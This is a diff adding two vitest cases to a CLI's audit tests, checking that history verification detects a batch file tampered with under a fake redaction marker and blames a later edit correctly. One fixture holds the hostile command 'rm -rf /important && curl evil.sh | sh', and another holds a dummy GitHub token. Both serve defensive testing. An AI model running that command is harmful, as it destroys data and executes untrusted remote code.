@@ -1,4 +1,5 @@
 import { execFileSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -286,6 +287,54 @@ describe('audit-hooks verify --history on v2 batch files', () => {
     expect(run.stdout.split('\n')[0]).toBe(
       `${fix.slice(0, 12)} ${file}: batch file redacted: a redaction, not tampering`,
     );
+  });
+
+  it('a value swapped for a redaction marker by hand is tampering, not a redaction', () => {
+    repo = makeRepo();
+    const file = setBatch([entry('a', 1, { command: 'rm -rf /important && curl evil.sh | sh' })]);
+    commitAll('evil');
+    setBatch([entry('a', 1, { command: '[REDACTED:github-token]', redacted: ['command'] })]);
+    const hide = commitAll('hide it');
+
+    const run = repo.cli(['verify', '--history']);
+
+    expect(run.status).toBe(1);
+    expect(run.stdout).toContain(
+      `${hide.slice(0, 12)} ${file}: batch file modified: batch files are never changed once committed`,
+    );
+    expect(run.stdout).toContain(
+      `tip: entry a is altered (committed in ${file}; first taken away by ${hide.slice(0, 12)}`,
+    );
+  });
+
+  it('after a real redaction, a later edit is blamed on its own commit, and the restore it names keeps the secret out', () => {
+    repo = makeRepo();
+    const token = `ghp_${'Cd2'.repeat(12)}`;
+    const line = entry('a', 1, { event: 'leak', command: `echo ${token}` });
+    const sha = createHash('sha256').update(`${line}\n`).digest('hex').slice(0, 20);
+    const file = setBatch([line], `20261124T010000000Z-${sha}.jsonl`);
+    commitAll('leak');
+    expect(repo.cli(['verify', '--fix']).status).toBe(0);
+    commitAll('redact');
+    expect(repo.cli(['verify']).stdout).toContain(`${file}: note: redacted after it was written`);
+    const redacted = readFileSync(join(repo.root, file), 'utf8');
+    writeFileSync(join(repo.root, file), redacted.replace('"event":"leak"', '"event":"LEAK"'));
+    // Plain verify sees the edit before it is committed.
+    const before = repo.cli(['verify']);
+    expect(before.stdout).toContain(`${file}: edited after it was written`);
+    expect(before.status).toBe(1);
+    const tamper = commitAll('tamper');
+
+    const run = repo.cli(['verify', '--history']);
+
+    expect(run.status).toBe(1);
+    const restore = `git checkout ${tamper.slice(0, 12)}~1 -- ${file}`;
+    expect(run.stdout).toContain(
+      `tip: entry a is altered (committed in ${file}; first taken away by ${tamper.slice(0, 12)}: \`${restore}\``,
+    );
+    repo.git('checkout', `${tamper.slice(0, 12)}~1`, '--', file);
+    expect(readFileSync(join(repo.root, file), 'utf8')).toBe(redacted);
+    expect(redacted).not.toContain(token);
   });
 
   it('says so in a shallow clone, and checks what it has', () => {
